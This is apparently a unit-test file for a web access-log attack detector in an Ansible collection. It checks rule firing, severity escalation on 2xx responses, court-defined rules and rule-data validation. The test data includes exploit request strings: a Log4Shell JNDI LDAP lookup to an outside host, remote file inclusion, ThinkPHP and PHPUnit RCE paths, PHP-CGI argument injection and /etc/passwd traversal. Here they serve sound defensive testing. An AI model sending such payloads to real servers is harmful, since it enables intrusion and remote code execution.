# Copyright: (c) 2026, pn.website maintainers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The rule file of the access-log engine: each family of attacks fires its rule and its benign twin
stays silent (with both engines), a 2xx answer raises the severity, courts add, tune and switch off
rules, and mistakes in rule data are named by rule and field."""

from __future__ import annotations

import json

import pytest

from ansible_collections.pn.website.plugins.module_utils.logs import access_log as al
from ansible_collections.pn.website.plugins.module_utils.logs import rule_set
from ansible_collections.pn.website.tests.unit.plugins.module_utils.logs import (
    test_access_log_corpus as corpus,
)

try:
    from ansible_collections.pn.website.plugins.module_utils.logs import polars_reader
except ImportError:  # pragma: no cover - the controller's test environment has polars
    polars_reader = None

FAMILIES = list(corpus.FAMILY_ATTACKERS)
ENGINES = ["python"] + (["polars"] if polars_reader is not None and polars_reader.HAS_POLARS else [])


def as_bytes(lines) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def analyze(lines, **options) -> dict:
    """The stdlib engine's result, after checking that the polars engine gives the same."""
    data = as_bytes(lines)
    result = al.analyze_bytes(data, **options)
    if "polars" in ENGINES:
        fast = al.analyze_bytes(data, engine="polars", chunk_bytes=4096, **options)
        assert json.dumps(fast, sort_keys=True) == json.dumps(result, sort_keys=True)
    return result


@pytest.fixture(scope="module")
def benign():
    return corpus.benign_lines(2000, seed=31)


@pytest.mark.parametrize("rule", FAMILIES)
def test_family_attack_fires_its_rule(rule, benign):
    result = analyze(corpus.merged(benign, corpus.family_attack(rule)))
    found = [f for f in result["findings"] if f["rule"] == rule]
    assert len(found) == 1, result["findings"]
    assert found[0]["ip"] == corpus.FAMILY_ATTACKERS[rule]
    assert found[0]["message"] and found[0]["message_en"]
    others = {f["rule"] for f in result["findings"]} - {rule}
    assert others <= corpus.FAMILY_ALSO.get(rule, set()), others


@pytest.mark.parametrize("rule", FAMILIES)
def test_family_benign_twin_stays_silent(rule, benign):
    result = analyze(corpus.merged(benign, corpus.family_twin(rule)))
    assert result["findings"] == []


def test_every_rule_of_the_file_has_a_family_or_legacy_test():
    tested = set(FAMILIES) | set(corpus.ATTACKERS)
    assert set(rule_set.default_rule_set().rules) == tested


@pytest.mark.parametrize(
    ("target", "method"),
    [
        ("/index.php?page=http://203.0.113.66/x.txt?", "GET"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST"),
        ("/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array", "GET"),
        ("/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "GET"),
        ("/?x=$%7Bjndi:ldap://203.0.113.66/a%7D", "GET"),
        ("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "POST"),
    ],
)
def test_an_exploit_the_site_answers_with_2xx_is_worse_and_said_so(target, method):
    def finding(status):
        lines = [corpus.line("198.51.100.9", corpus.START, method, target, status, 900)]
        found = [f for f in analyze(lines)["findings"] if f["rule"].startswith(("exploit-", "remote-"))]
        assert len(found) == 1, found
        return found[0]

    refused, served = finding(404), finding(200)
    assert refused["rule"] == served["rule"]
    assert (refused["severity"], served["severity"]) == ("medium", "critical")
    assert "2xx" not in refused["message"] and "served" not in refused["evidence"]
    assert "2xx" in served["message"] and "2xx" in served["message_en"]
    assert served["evidence"]["served"] == 1


def test_a_payload_in_the_user_agent_is_not_served_by_a_2xx_page():
    """A 200 for / says nothing about a Log4Shell string in the user agent."""
    lines = [corpus.line("198.51.100.9", corpus.START, "GET", "/", 200, 900, ua="${jndi:ldap://x/a}")]
    (finding,) = analyze(lines)["findings"]
    assert (finding["rule"], finding["severity"]) == ("exploit-log4shell", "medium")
    assert finding["evidence"]["references"] == ["CVE-2021-44228", "CVE-2021-45046"]


# --- courts extend, tune and switch off rules ----------------------------------------------------------

COURT_RULE = {
    "id": "court-sipp-admin",
    "severity": "high",
    "messages": {
        "id": "Akses admin SIPP dari luar: {count} permintaan.",
        "en": "SIPP admin from outside: {count}.",
    },
    "references": ["https://sipp.example/advisory-1"],
    "match": {
        "path": "^/sipp/admin",
        "method": ["GET", "POST"],
        "status": ["2xx", 302],
        "size": {"min": 100},
    },
    "threshold": {"count": 2, "window": 60},
}


def test_a_court_adds_its_own_rule_as_data():
    lines = [
        corpus.line("198.51.100.7", corpus.START + i, "GET", "/sipp/admin/login", 200, 900) for i in range(2)
    ]
    assert analyze(lines)["findings"] == []
    (finding,) = analyze(lines, extra_rules=[COURT_RULE])["findings"]
    assert (finding["rule"], finding["severity"], finding["count"]) == ("court-sipp-admin", "high", 2)
    assert finding["message"] == "Akses admin SIPP dari luar: 2 permintaan."
    small = [x.replace(" 900 ", " 50 ") for x in lines]
    assert analyze(small, extra_rules=[COURT_RULE])["findings"] == []  # size below min


def test_a_court_tunes_and_switches_off_rules():
    attack = corpus.family_attack("wordpress-plugin-scan")
    assert [f["rule"] for f in analyze(attack)["findings"]] == ["wordpress-plugin-scan"]
    off = {"wordpress-plugin-scan": {"enabled": False}}
    assert analyze(attack, rule_overrides=off)["findings"] == []
    stricter = {"wordpress-plugin-scan": {"count": 11, "severity": "high"}}
    assert analyze(attack, rule_overrides=stricter)["findings"] == []
    louder = {"wordpress-plugin-scan": {"severity": "high"}}
    assert [f["severity"] for f in analyze(attack, rule_overrides=louder)["findings"]] == ["high"]


# --- mistakes in rule data -----------------------------------------------------------------------------


def _court(**changes):
    rule = dict(COURT_RULE, **changes)
    return [{k: v for k, v in rule.items() if v is not None}]


@pytest.mark.parametrize(
    ("extra", "overrides", "message"),
    [
        (_court(severity="urgent"), None, "'court-sipp-admin', field 'severity': 'urgent' is not one of"),
        (_court(colour="red"), None, "'court-sipp-admin', field 'colour': unknown field"),
        (_court(match={"path": "(unclosed"}), None, "field 'match.path': not a valid regular expression"),
        (_court(match={"paht": "^/x"}), None, "field 'match.paht': unknown condition"),
        (_court(match=[{"path": "^/x"}, {"status": [200]}]), None, "field 'match[1]': needs a condition"),
        (
            _court(match={"path": "^/x", "status": ["2xy"]}),
            None,
            "field 'match.status': '2xy' is not a status",
        ),
        (
            _court(match={"path": "^/x", "method": ["get"]}),
            None,
            "field 'match.method': methods are upper-case",
        ),
        (
            _court(messages={"id": "{jumlah}", "en": "x"}),
            None,
            "field 'messages.id': only {count} and {distinct}",
        ),
        (_court(messages={"id": "x"}), None, "field 'messages': must have exactly the keys"),
        (_court(threshold={"count": 0}), None, "field 'threshold.count': must be positive"),
        (_court(threshold={"window": "soon"}), None, "field 'threshold.window': must be a whole number"),
        (_court(severity_served="low"), None, "field 'severity_served': must be a severity at least 'high'"),
        (_court(id="Court Rule"), None, "field 'id': 'Court Rule' is not a rule id"),
        ([], {"no-such-rule": {"enabled": False}}, "unknown rule 'no-such-rule'"),
        ([], {"spam-bot": {"enabled": "no"}}, "'spam-bot', field 'overrides.enabled': must be true or false"),
        ([], {"spam-bot": {"count": -1}}, "'spam-bot', field 'overrides.count': must be positive"),
        ([], {"spam-bot": {"colour": "red"}}, "'spam-bot', field 'overrides.colour': unknown setting"),
        ([], {"spam-bot": {"severity": "huge"}}, "'spam-bot', field 'overrides.severity': 'huge' is not one"),
    ],
)
def test_rule_mistakes_name_the_rule_and_field(extra, overrides, message):
    with pytest.raises(rule_set.RuleError) as error:
        al.analyze_bytes(b"", extra_rules=extra, rule_overrides=overrides)
    assert message in str(error.value)


def test_rule_file_mistakes_are_named():
    data = rule_set.default_data()
    with pytest.raises(rule_set.RuleError, match="unsupported 'version'"):
        rule_set.build(dict(data, version=2))
    with pytest.raises(rule_set.RuleError, match="'spam-bot', field 'id': defined twice"):
        rule_set.build(dict(data, rules=data["rules"] + [r for r in data["rules"] if r["id"] == "spam-bot"]))
    with pytest.raises(rule_set.RuleError, match="'rules' must be a list"):
        rule_set.build({"version": 1, "rules": "all"})


@pytest.mark.parametrize(
    ("target", "flagged"),
    [
        ("/wp-config.php_orig", True),
        ("/wp-config.txt", True),
        ("/blog/wp-config.php-backup", True),
        ("/wp-config.zip", True),
        ("/.wp-config.php.swp", True),
        ("/wp-config.php", False),
        ("/wp-config-sample.php", False),
    ],
)
def test_copies_of_the_wordpress_configuration_are_sensitive(target, flagged):
    lines = [corpus.line("198.51.100.8", corpus.START, "GET", target, 404, 150)]
    assert [f["rule"] for f in analyze(lines)["findings"]] == (["sensitive-files"] if flagged else [])


def test_the_quick_no_match_test_never_hides_a_match():
    """Targets and agents are first tested against all patterns at once: the bits must be those of
    testing every pattern."""
    quick = rule_set.build()
    full = rule_set.build()
    full._joined = False  # every pattern of every block, one by one
    full._any_agent = None
    lines = corpus.benign_lines(3000, seed=41)
    for rule in FAMILIES:
        lines += corpus.family_attack(rule) + corpus.family_twin(rule)
    for rule in corpus.ATTACKERS:
        lines += corpus.attack_lines(rule)
    targets = {x.split('"')[1].split(" ")[1].encode() for x in lines if x.split('"')[1].count(" ") == 2}
    agents = {x.rsplit('"', 2)[1].encode() for x in lines}
    assert len(targets) > 500
    for target in targets:
        assert quick.classify_target(target) == full.classify_target(target), target
    for agent in agents:
        assert quick.classify_user_agent(agent) == full.classify_user_agent(agent), agent


def test_a_back_reference_keeps_its_group_when_patterns_are_joined():
    """A court's pattern that refers to its own group (``\\1``), beside another with a group of
    its own: joined for the quick test, the reference would name the other pattern's group and
    the quick test would find nothing where the pattern matches."""
    messages = {"id": "Uji: {count}.", "en": "Test: {count}."}
    extra = [
        {"id": "court-group", "severity": "low", "messages": messages, "match": {"path": "^/(x)y"}},
        {"id": "court-twice", "severity": "low", "messages": messages, "match": {"path": r"^/(ab)\1$"}},
    ]
    built = rule_set.build(extra=extra)
    twice = next(m.bit for m in built.matchers if m.rule.id == "court-twice")
    assert built.classify_target(b"/abab") & twice
    assert not built.classify_target(b"/abcd") & twice
    lines = [corpus.line("198.51.100.9", corpus.START, "GET", "/abab", 200, 10)]
    found = analyze(lines, extra_rules=extra)["findings"]
    assert [f["rule"] for f in found] == ["court-twice"]
